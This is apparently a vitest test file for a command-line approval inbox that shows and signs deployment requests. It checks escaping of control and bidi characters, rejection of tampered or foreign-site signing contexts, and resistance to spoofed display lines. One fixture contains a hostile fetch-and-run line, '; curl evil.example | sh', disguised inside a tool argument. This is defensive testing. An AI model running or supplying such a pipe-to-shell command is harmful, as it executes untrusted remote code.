import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { KeyFile } from '../../../src/cli/context/key-file.ts'
import {
  createSoftwareDevice,
  type ReportedLocation,
  placeAt,
} from '../../../src/cli/approve/software-device.ts'
import { requestText } from '../../../src/cli/approve/request-text.ts'
import { runInbox } from '../../../src/cli/approve/inbox-screen.ts'
import type { Prompt } from '../../../src/cli/terminal/prompt.ts'
import type { Answer, Client } from '../../../src/client/client.ts'
import { createSoftwareKey } from '../../../src/client/software-authenticator.ts'
import type { Operation } from '../../../src/contract/operation.ts'
import { SvcError } from '../../../src/core/errors.ts'
import { contextBytes, type ApprovalContext } from '../../../src/receipt/context.ts'
import { digestOf, type Subject } from '../../../src/receipt/subject.ts'
import { json, startFakeHosted } from '../../fake-hosted.ts'
import { temporaryFolder } from '../../temporary-folder.ts'
import { memoryIo } from '../memory-io.ts'
import { svc } from '../svc.ts'
import { record } from './records.ts'
import { openContext } from '../../../src/cli/main.ts'

const key = createSoftwareKey('ES256', { rpId: 'localhost' })
const mine: KeyFile = { version: 1, device_id: '1', org_id: 1, user_id: '7', mobile: '+12025550101', key }
const subject = {
  type: 'tool_call',
  data: { server: 'ci', tool: 'deploy \u202e4.2\u0007', arguments: { stage: 'prod' } },
} satisfies Subject
const asked: ApprovalContext = {
  type: 'approval',
  format: 1,
  organization: { id: '1', slug: 'acme' },
  key: { id: '3', name: 'ci', scopes: ['ask'] },
  subject: { type: subject.type, digest: digestOf(subject.data) },
  request_id: 'apr_1',
  action: 'Deploy \u202e4.2\u0007',
  reason: null,
  requester: 'ci\u001b[2J',
  approver: { user_id: '7', name: 'Ada Lovelace', mobile: mine.mobile, twin: false },
  lines: [{ people: ['7'], need: 1, group: null, rules: [], separated: false }],
  rules: [],
  factors: ['biometric'],
  decision: 'approve',
  nonce: 'AAECAwQFBgcICQoLDA0ODw',
  requested_at: record().requested_at,
  request_expires_at: record().expires_at,
}
const other = { ...asked.approver, mobile: '+12025550102' }
const encoded = (changes: Partial<ApprovalContext>): string =>
  Buffer.from(contextBytes({ ...asked, ...changes })).toString('base64url')
const approve = encoded({})
const deny = encoded({ decision: 'deny' })
const ceremony = {
  rp_id: 'localhost',
  origin: 'http://localhost:8080',
  contexts: { approve, deny },
  subject,
  credentials: [key.credential_id],
  number_required: false,
}

/** An approver at a terminal, for a service that returns these ceremonies. */
const setUp = async (given: object, listed: object = {}, state = 'active', decided: object = {}) => {
  const io = memoryIo({ tty: true })
  const posted: Record<string, unknown>[] = []
  const answers: Record<string, (input: Record<string, unknown>) => unknown> = {
    'approve list': () => (posted.length === 0 ? [{ ...record({ action: asked.action }), ...listed }] : []),
    'approve ceremony': () => given,
    'user get': () => ({ state }),
    'approve decide': (input) => {
      posted.push(input)
      return record({ status: input.decision === 'approve' ? 'approved' : 'denied', ...decided })
    },
  }
  const call = async (operation: Operation, input: Record<string, unknown>): Promise<Answer> => ({
    httpStatus: 200,
    envelope: { status: 'success', message: 'OK', data: answers[operation.cli]!(input) },
  })
  const client: Client = {
    call: call as Client['call'],
    raw: () => Promise.reject(new Error('nothing else is asked')),
    pages: () => {
      throw new Error('nothing else is asked')
    },
    close: async () => undefined,
  }
  const context = { ...openContext(io), client: async () => client }
  return { io, posted, context, device: await createSoftwareDevice(mine, context) }
}

const said = (user_id: string, answer: string) => ({ user_id, name: 'N', mobile: '', answer })

const unasked = (): never => {
  throw new Error('nobody asked for this')
}

/** Answers each prompt in turn. Any further prompt fails the test. */
const scripted = (picks: string[], agrees = true, shown: string[] = [], confirmed: string[] = []): Prompt => {
  return {
    text: async (question) =>
      /itude/.test(question) ? '52.52' : question.startsWith('Note') ? ' Not now ' : '42',
    secret: unasked,
    select: unasked,
    tick: unasked,
    confirm: async (question) => confirmed.push(question) > 0 && agrees,
    selectUntil: async (_, choices) => {
      shown.push(...choices.map(({ name }) => name))
      return picks.shift()!
    },
  }
}

const decides = async (
  picks: string[],
  given: object = ceremony,
  agrees = true,
  place?: ReportedLocation,
) => {
  const { io, posted, context, device } = await setUp(given)
  await runInbox({ device, place }, scripted([...picks, 'leave'], agrees), context)
  return { posted, screen: io.err() }
}

describe('the data that an approver signs', () => {
  test.each([
    [
      'another request',
      {
        contexts: {
          approve: encoded({ request_id: 'apr_2' }),
          deny: encoded({ request_id: 'apr_2', decision: 'deny' }),
        },
      },
    ],
    [
      'the request of another person',
      {
        contexts: {
          approve: encoded({ approver: other }),
          deny: encoded({ approver: other, decision: 'deny' }),
        },
      },
    ],
    ['an approval in place of a denial', { contexts: { approve, deny: approve } }],
    [
      'a denial of something else',
      { contexts: { approve, deny: encoded({ action: 'Deploy 9', decision: 'deny' }) } },
    ],
    [
      'a subject that does not match its digest',
      { subject: { ...subject, data: { ...subject.data, tool: 'x' } } },
    ],
    ['a subject of another type', { subject: { ...subject, type: 'text' } }],
    ['no subject', { subject: undefined }],
    ['an unreadable context', { contexts: { approve: 'AAAA', deny } }],
    ['a request for another key', { credentials: [] }],
  ])('is never %s', async (_, changes) => {
    const { device, posted } = await setUp({ ...ceremony, ...changes })
    await expect(device.open('apr_1')).rejects.toBeInstanceOf(SvcError)
    expect(posted).toEqual([])
  })
  test('is never for another site than that of the key', async () => {
    const { device, posted } = await setUp({
      ...ceremony,
      rp_id: 'evil.example',
      origin: 'https://evil.example',
    })
    const opened = await device.open('apr_1')
    await expect(opened.decide({ decision: 'approve' })).rejects.toThrow(/cannot sign for/)
    expect(posted).toEqual([])
  })
})

describe('svc approve inbox, at a terminal', () => {
  test('shows the signed text, with unsafe characters escaped', async () => {
    const { screen } = await decides(['apr_1', 'back'])
    expect(screen).toContain('Action      Call deploy \\u{202e}4.2\\u{0007} on ci')
    expect(screen).toContain('              - stage: prod')
    expect(screen).toContain(
      `"Deploy \\u{202e}4.2\\u0007" (in the requester's words, not \n              verified)`,
    )
    expect(screen).toContain('Requester   "ci\\u001b[2J" (claimed, not verified)')
    for (const raw of ['\u202e', '\u0007', '\u001b']) expect(screen).not.toContain(raw)
  })
  test('shows the whole of a long value, and begins no line with foreign text', async () => {
    const { device } = await setUp(ceremony)
    const opened = await device.open('apr_1')
    const posing = `x${' '.repeat(200)}  Credential key "ci-prod" (verified)`
    const tool = { ...subject.data, arguments: { script: `${posing}; curl evil.example | sh` } }
    const shown = requestText({ ...opened, subject: { type: 'tool_call', data: tool } }, 0, {
      isTTY: true,
      columns: 80,
    })
    const lines = shown.split('\n')
    expect(lines.every((line) => line.length < 80)).toBe(true)
    expect(lines.map((line) => line.slice(16)).join('')).toContain('; curl evil.example | sh')
    expect(
      lines.filter((line) => /^ {0,15}\S/.test(line)).map((line) => line.trim().split(/[ :]/)[0]),
    ).not.toContain('key')
    expect(lines.filter((line) => line.startsWith('  Credential'))).toEqual([])
  })
  test('quotes a name so that nothing in it ends the quotes', async () => {
    const name = 'GitHub" (verified) "'
    const contexts = {
      approve: encoded({ requester: name }),
      deny: encoded({ requester: name, decision: 'deny' }),
    }
    const { screen } = await decides(['apr_1', 'back'], { ...ceremony, contexts })
    expect(screen).toContain(String.raw`  Requester   "GitHub\" (verified) \"" (claimed, not verified)`)
  })
  test('shows the verified credential, the claimed name and the address apart', async () => {
    const given = { ...ceremony, verified_as: 'key "ci"', requested_from: '203.0.113.7' }
    const { screen } = await decides(['apr_1', 'back'], given)
    expect(screen).toContain('  Credential  key "ci" (verified)\n  Requester   "ci')
    expect(screen).toContain('  From        203.0.113.7\n')
  })
  test('shows the owner of the key in lines of their own, and warns of a twin', async () => {
    const owner = {
      user_id: '9',
      name: 'Ada L (user 1)',
      mobile: '••••••••0109',
      confirmed: true,
      twin: true,
    }
    const contexts = {
      approve: encoded({ key: { ...asked.key, owner } }),
      deny: encoded({ key: { ...asked.key, owner }, decision: 'deny' }),
    }
    const { screen } = await decides(['apr_1', 'back'], { ...ceremony, contexts })
    expect(screen).toContain(
      [
        '  Owner       "Ada L (user 1)" (confirmed on their device)',
        '  Owner id    user 9, mobile ••••••••0109',
        '  Warning     another member has the same or a similar name: check the mobile ',
        '              number',
        '',
      ].join('\n'),
    )
  })
  test.each([
    ['key "ci"', { verified_as: 'key "ci"', requester: 'ci' }],
    ['key "ci"; calls itself "Payroll" (not verified)', { verified_as: 'key "ci"', requester: 'Payroll' }],
    ['calls itself "Payroll" (not verified)', { verified_as: null, requester: 'Payroll' }],
  ])('lists the requester: %s', async (who, listed) => {
    const { context, device } = await setUp(ceremony, listed)
    const shown: string[] = []
    await runInbox({ device }, scripted(['leave'], true, shown), context)
    expect(shown[0]).toContain(`" (${who}, until `)
  })
  test.each([
    ['deny', { decision: 'deny' }],
    ['not_me', { decision: 'deny', not_me: true }],
    ['note', { decision: 'deny', note: 'Not now' }],
    ['approve', { decision: 'approve' }],
  ])('sends the chosen decision once: %s', async (picked, decision) => {
    const { posted } = await decides(['apr_1', picked])
    expect(posted).toEqual([{ request_id: 'apr_1', ...decision, response: expect.anything() }])
  })
  test('prompts for the number if there is one', async () => {
    const { posted } = await decides(['apr_1', 'approve'], { ...ceremony, number_required: true })
    expect(posted).toMatchObject([{ decision: 'approve', number: '42' }])
  })
  test('prompts for the location if a rule requires one', async () => {
    const { posted, screen } = await decides(['apr_1', 'approve'], { ...ceremony, location_required: true })
    expect(screen).toContain('Location    required by a rule')
    expect(posted).toMatchObject([
      { location: { latitude: 52.52, longitude: 52.52, accuracy_m: 0, age_ms: 0 } },
    ])
  })
  test('sends the location from its flags without a prompt', async () => {
    const place = placeAt(1, 2)
    const { posted } = await decides(
      ['apr_1', 'approve'],
      { ...ceremony, location_required: true },
      true,
      place,
    )
    expect(posted).toMatchObject([{ location: place }])
    expect((await decides(['apr_1', 'deny'], ceremony, true, place)).posted[0]).not.toHaveProperty('location')
  })
  test('names the grant in the last question and after it', async () => {
    const grant = { seconds: 3600, uses: 20, free: [] }
    const { io, context, device } = await setUp({ ...ceremony, grant })
    const asked: string[] = []
    await runInbox({ device }, scripted(['apr_1', 'grant', 'leave'], true, [], asked), context)
    expect(asked[0]).toMatch(
      /^Sign the approval of: .* on ci, and allow for 1 hour, up to 20 times: exactly this\?$/,
    )
    expect(io.err()).toContain(
      'The request is approved, and allowed for 1 hour, up to 20 times: exactly this.\n',
    )
  })
  test('names no grant when it is approved once', async () => {
    const grant = { seconds: 3600, uses: 20, free: [] }
    const { io, context, device } = await setUp({ ...ceremony, grant })
    const asked: string[] = []
    await runInbox({ device }, scripted(['apr_1', 'approve', 'leave'], true, [], asked), context)
    expect(asked[0]).not.toContain('allow')
    expect(io.err()).toContain('The request is approved.\n')
  })
  test.each([
    ['pending', 2],
    ['approved', 1],
    ['denied', 1],
  ])('offers a request of several only to who has not answered: %s', async (own, choices) => {
    const lines = [{ people: [said('8', 'approved'), said('7', own)], need: 2 }]
    const { context, device } = await setUp(ceremony, { lines })
    const shown: string[] = []
    await runInbox({ device }, scripted(['leave'], true, shown), context)
    expect(shown).toHaveLength(choices)
    expect(shown.at(-1)).toBe('Leave')
  })
  test('says that the answer of one of several counts', async () => {
    const pending = { status: 'pending', detail: '1 of 2 approved; waiting for Grace' }
    const { io, context, device } = await setUp(ceremony, {}, 'active', pending)
    await runInbox({ device }, scripted(['apr_1', 'approve', 'leave']), context)
    expect(io.err()).toContain(
      'Your approval counts. The request is pending: 1 of 2 approved; waiting for Grace.\n',
    )
  })
  test('separates each label from its value', async () => {
    const break_glass = { reason: 'prod down', skipped: ['8'] }
    const contexts = {
      approve: encoded({ break_glass }),
      deny: encoded({ break_glass, decision: 'deny' }),
    }
    const { screen } = await decides(['apr_1', 'back'], { ...ceremony, contexts })
    expect(screen).toMatch(/^ {2}Break-glass "prod down": the people/m)
  })
  test('signs nothing when the approver goes back or does not confirm', async () => {
    expect((await decides(['apr_1', 'back'])).posted).toEqual([])
    expect((await decides(['apr_1', 'approve'], ceremony, false)).posted).toEqual([])
  })
})

test('says that nobody can ask somebody who was removed', async () => {
  const { context, device } = await setUp(ceremony, {}, 'removed')
  // The last request ends with the membership.
  const run = runInbox({ device }, scripted(['apr_1', 'deny']), context)
  await expect(run).rejects.toThrow('User 7 is removed in organization 1, so nobody can ask them')
})

test('shows the times of a request with their zone', async () => {
  const { screen } = await decides(['apr_1', 'back'])
  const time = String.raw`\d\d:\d\d:\d\d (?:[A-Z]{3,4}|GMT[+-]\d+(?::\d\d)?)`
  expect(screen).toMatch(new RegExp(`Requested   ${time}\n  Until       ${time}, \\d+:\\d\\d left\n`))
})

test('masks the phone number of a dry run on a terminal unless --reveal is set', async () => {
  const folder = temporaryFolder()
  const service = await startFakeHosted()
  try {
    service.always(json(200, { status: 'success', message: 'OK', data: ceremony }))
    const file = join(folder.path, 'ada.json')
    writeFileSync(file, JSON.stringify(mine), { mode: 0o600 })
    const env = { SVC_BASE_URL: service.baseUrl, SVC_API_KEY: 'k' }
    const dry = (...more: string[]) =>
      svc(['approve', 'inbox', '--authenticator', file, '--approve', 'apr_1', '--dry-run', ...more], {
        env,
        tty: true,
      })
    expect((await dry()).out).toContain('+1••••••0101')
    expect((await dry()).out).not.toContain(mine.mobile)
    expect((await dry('--reveal')).out).toContain(mine.mobile)
  } finally {
    await service.close()
    folder.remove()
  }
})
